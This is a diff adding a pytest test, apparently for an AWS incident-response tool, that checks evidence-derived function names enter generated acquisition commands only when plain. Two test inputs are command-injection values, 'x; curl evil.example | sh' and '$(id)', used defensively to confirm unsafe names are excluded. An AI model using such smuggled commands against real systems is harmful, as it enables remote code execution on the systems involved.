@@ -118,6 +118,18 @@ def test_a_changed_function_brings_its_code_before_its_settings_its_logs_and_its
     assert {tuple(row["refs"]) for row in mine} == {("E002:1",)}
 
 
+@pytest.mark.parametrize(
+    ("name", "command"),
+    [
+        ("invoice-export", "playbooks acquire aws CASE --function invoice-export --region eu-central-1; or "),
+        ("x; curl evil.example | sh", "playbooks acquire aws CASE --region eu-central-1; or "),
+        ("$(id)", "playbooks acquire aws CASE --region eu-central-1; or "),
+    ],
+)
+def test_a_name_from_evidence_goes_into_a_command_only_where_it_is_plain(name: str, command: str) -> None:
+    assert one(listed(acts=(t.act(resource=name),)), "function-code")["how"].startswith(command)
+
+
 def test_a_function_that_was_only_run_or_looked_at_brings_nothing() -> None:
     acts = (t.act("Invoke", "invoke"), t.act("GetFunction", "discovery", ref="E002:2"))
     assert [row for row in listed(acts=acts)["rows"] if row["kind"].startswith("function")] == []
